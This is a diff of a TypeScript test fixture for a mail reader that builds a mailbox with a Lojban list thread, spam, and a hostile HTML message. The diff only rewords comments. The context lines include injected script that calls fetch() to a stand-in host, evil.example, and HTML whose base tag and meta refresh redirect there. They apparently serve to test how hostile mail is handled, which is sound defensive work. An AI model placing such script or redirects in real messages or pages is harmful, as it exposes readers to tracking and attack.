@@ -2,7 +2,7 @@ import fs from 'node:fs'
 import os from 'node:os'
 import path from 'node:path'
 
-/** Script for hostile messages: records that it ran, and sends a request to another site. */
+/** Script for hostile messages: records that it ran and sends a request to another site. */
 const RUNS = (how: string) => `window.ran=(window.ran||[]).concat('${how}');fetch('http://evil.example/${how}')`
 
 const HOSTILE_HTML = `<html><head><base href="http://evil.example/"><meta http-equiv="refresh" content="0;url=http://evil.example/">
@@ -50,7 +50,7 @@ const PATCH = `--- a/word
 +litru
 `
 
-/** A thread of three messages; the last one changes the subject and attaches a patch. */
+/** A thread of three messages, the last of which changes the subject and attaches a patch. */
 const THREAD = [
   `From: Alis <alis@example.org>
 To: lojban-list@lists.example.org
@@ -113,7 +113,7 @@ Message-ID: <spam@e2e.example.org>
 Buy three cmavo and pay for two.
 `
 
-/** Runs `work` with a mailbox file: a thread, a message that attacks its readers, and spam. */
+/** Runs `work` with a mailbox file that contains a thread, an attack message, and spam. */
 export function withMailbox(work: (file: string) => void) {
   const folder = fs.mkdtempSync(path.join(os.tmpdir(), 'vlacku-mails-'))
   const file = path.join(folder, 'e2e.mbox')
